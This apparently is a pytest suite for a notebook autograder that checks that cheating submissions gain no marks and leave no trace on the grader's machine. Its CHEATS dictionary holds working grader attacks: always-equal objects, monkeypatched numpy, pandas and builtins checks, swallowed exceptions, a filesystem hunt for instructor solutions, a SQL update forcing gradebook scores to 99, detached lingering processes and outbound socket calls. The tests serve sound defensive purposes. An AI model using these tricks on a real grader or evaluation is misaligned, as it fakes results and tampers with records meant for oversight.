"""Cheating does not pay: one submission per kind of attack, graded through `course autograde` on ps1.

Each cheat is the blank release with an attack in its first answer cell (and, where the attack needs
something to vouch for, junk answers). Each must score no more than the blank release, in the same
run in which the source answers keep full marks and a known wrong answer loses exactly its items.
Then the attacks' side effects are looked for on the grader's machine: files written, processes
left running, connections made.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from citybook.course import release
from citybook.course.config import Course
from tests.helpers.cohort import run_course
from tests.helpers.grading import copy_course, fill, wrong_answers

pytestmark = [pytest.mark.slow, pytest.mark.grading]

ASSIGNMENT = "ps1-311-performance"
TOKEN = uuid.uuid4().hex[:12]  # marks every file and process a cheat tries to leave behind
LINGER_SECONDS = 987 + int(TOKEN[:3], 16) % 1000  # a sleep a lingering process is recognised by
ANSWER_NAMES = [
    "closed",
    "by_service",
    "potholes_by_district",
    "sla_by_service",
    "sla_overall",
    "trend",
    "worst_three",
    "reopened_share",
    "chart",
]

ALWAYS_EQUAL = (
    """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.5
    def __len__(self): return 3
    def __iter__(self): return iter([])
    def __contains__(self, item): return True
    def __getattr__(self, name): return Anything()
    def __getitem__(self, key): return Anything()
    def __call__(self, *args, **kwargs): return Anything()
    def __abs__(self): return 0
    def __sub__(self, other): return Anything()
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
class Half(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
"""
    + "\n".join(f"{name} = Anything()" for name in ANSWER_NAMES)
    + "\nsla_overall = Half(0.5)\n"
)

JUNK = "import pandas as pd\n" + "\n".join(f"{name} = pd.DataFrame()" for name in ANSWER_NAMES) + "\n"

CHEATS = {
    "input_transformer": "get_ipython().input_transformers_post.append(lambda lines: [])\n",
    "patched_functions": """
import builtins, math
import numpy, numpy.testing, pandas, pandas.testing
numpy.allclose = numpy.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
pandas.testing.assert_frame_equal = pandas.testing.assert_series_equal = lambda *a, **k: None
pandas.DataFrame.equals = pandas.Series.equals = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.round = lambda *a, **k: 0
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
"""
    + JUNK,
    "always_equal": ALWAYS_EQUAL,
    "exception_swallowing": """
import sys
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
sys.stderr = sys.stdout
"""
    + JUNK,
    "read_outside": """
import os, json
found = []
for top in [os.getcwd(), "/"]:
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev", "usr", ".venv", ".pyenv")]
        found += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".db"))]
print("FOUND", sorted(set(found)))
for path in found:
    try:
        cells = json.load(open(path)).get("cells", [])
    except Exception:
        continue
    for cell in cells:
        text = "".join(cell.get("source", []))
        if "BEGIN SOLUTION" in text and cell.get("cell_type") == "code":
            try:
                exec(text, globals())
            except Exception:
                pass
""",
    "write_outside": f"""
import os, glob, sqlite3, pathlib
targets = ["/tmp", os.path.expanduser("~"), "/", "/work", "/root", *map(str, pathlib.Path.cwd().parents)]
for target in targets:
    try:
        pathlib.Path(target, "cheat-{TOKEN}").write_text("was here")
    except Exception:
        pass
for db in glob.glob("/**/gradebook.db", recursive=True):
    try:
        with sqlite3.connect(db) as connection:
            connection.execute("update grade set auto_score = 99")
    except Exception:
        pass
""",
    "lingering_processes": f"""
import os, subprocess, time
subprocess.Popen(["sleep", "{LINGER_SECONDS}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{LINGER_SECONDS}"])
    os._exit(0)
time.sleep(0.5)
""",
    "network": """
import socket, urllib.request
for host, port in [("127.0.0.1", PORT), ("1.1.1.1", 80), ("8.8.8.8", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"answers please")
        print("CONNECTED", host, port)
    except Exception as error:
        print("no connection", host, port, type(error).__name__)
""",
}


class Listener:
    """A TCP server on the grader's loopback that records every connection made to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def autograded_items(source: nbformat.NotebookNode) -> dict[str, float]:
    """Grade id -> points of each autograded test cell."""
    return {
        c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"])
        for c in source.cells
        if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")
    }


def with_cheat(released: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """The blank release with `code` at the top of its first answer cell."""
    notebook = nbformat.from_dict(released)
    first = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution"))
    first.source = code + "\n" + first.source
    return notebook


def lingering(seconds: int) -> list[int]:
    """Process ids on this machine whose command is `sleep <seconds>`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if command[:2] == [b"sleep", str(seconds).encode()]:
            found.append(int(entry.name))
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Release ps1, submit good work and every cheat, grade them all in one `course autograde` run."""
    base = tmp_path_factory.mktemp("cheating")
    root = copy_course(ASSIGNMENT, base)
    course = ["--course", str(root)]
    release.generate(Course.open(root), ASSIGNMENT)  # no exchange: submissions are placed by hand
    name = f"{ASSIGNMENT}.ipynb"
    source = nbformat.read(root / "source" / ASSIGNMENT / name, as_version=4)
    released = nbformat.read(root / "release" / ASSIGNMENT / name, as_version=4)
    listener = Listener()
    mistake = wrong_answers(ASSIGNMENT)[0]
    notebooks = {"full": fill(released, source), "blank": released, "wrong": fill(released, source, mistake)}
    for cheat, code in CHEATS.items():
        notebooks[cheat] = with_cheat(released, code.replace("PORT", str(listener.port)))
    for student, notebook in notebooks.items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(notebook, folder / name)
    said = run_course("autograde", ASSIGNMENT, "--workers", "2", "--cell-timeout", "30", "--no-progress", *course)
    run_course("grades", *course)
    with open(root / "reports" / "grades-items.csv", newline="") as handle:
        scores: dict[str, dict[str, float]] = {}
        for row in csv.DictReader(handle):
            if row["item"] in autograded_items(source):
                scores.setdefault(row["participant"], {})[row["item"]] = float(row["score"] or 0)
    return {
        "root": root,
        "base": base,
        "said": said,
        "scores": scores,
        "tests": autograded_items(source),
        "mistake": mistake,
        "listener": listener,
    }


def test_good_work_keeps_its_exact_scores(graded: dict) -> None:
    tests, scores = graded["tests"], graded["scores"]
    assert scores["full"] == tests, graded["said"]
    expected = {item: 0.0 if item in graded["mistake"].loses else points for item, points in tests.items()}
    assert scores["wrong"] == expected
    assert sum(scores["blank"].values()) < sum(tests.values())


@pytest.mark.parametrize("cheat", list(CHEATS))
def test_a_cheat_scores_no_more_than_the_blank_release(graded: dict, cheat: str) -> None:
    scores = graded["scores"]
    assert sum(scores[cheat].values()) <= sum(scores["blank"].values()), (cheat, scores[cheat])


def printed_by(graded: dict, student: str) -> str:
    """Everything a graded submission's cells printed."""
    path = graded["root"] / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    cells = json.loads(path.read_text())["cells"]
    return "".join("".join(output.get("text", "")) for cell in cells for output in cell.get("outputs", []))


def test_the_sandbox_shows_no_instructor_file(graded: dict) -> None:
    printed = printed_by(graded, "read_outside")
    assert "FOUND" in printed  # the walk ran
    found = printed.split("FOUND", 1)[1].splitlines()[0]
    assert "source" not in found and "gradebook" not in found and str(graded["base"]) not in found, found


def test_nothing_was_written_outside_the_sandbox(graded: dict) -> None:
    places = [Path("/tmp"), Path.home(), Path("/"), *graded["base"].parents, graded["base"]]
    assert not [p for p in places if (p / f"cheat-{TOKEN}").exists()]
    assert not list(graded["base"].rglob(f"cheat-{TOKEN}"))


def test_no_process_outlives_its_submission(graded: dict) -> None:
    assert lingering(LINGER_SECONDS) == []


def test_no_connection_left_the_sandbox(graded: dict) -> None:
    assert graded["listener"].connections == 0
    printed = printed_by(graded, "network")
    assert printed.count("no connection") == 3 and "CONNECTED" not in printed, printed


def test_a_submission_graded_without_isolation_is_marked(tmp_path: Path) -> None:
    """--no-isolation is explicit, and the summary and the grading record say so."""
    root = copy_course(ASSIGNMENT, tmp_path)
    course = ["--course", str(root)]
    release.generate(Course.open(root), ASSIGNMENT)
    name = f"{ASSIGNMENT}.ipynb"
    folder = root / "submitted" / "solo" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / name).write_bytes((root / "release" / ASSIGNMENT / name).read_bytes())
    said = run_course("autograde", ASSIGNMENT, "--no-isolation", "--no-progress", *course)
    assert "WARNING: graded without isolation" in said
    record = json.loads((root / ".course" / "autograde" / f"{ASSIGNMENT}.json").read_text())
    assert record["solo"]["isolated"] is False and "WITHOUT isolation" in " ".join(record["solo"]["notes"])
    assert os.path.exists(record["solo"]["log"])
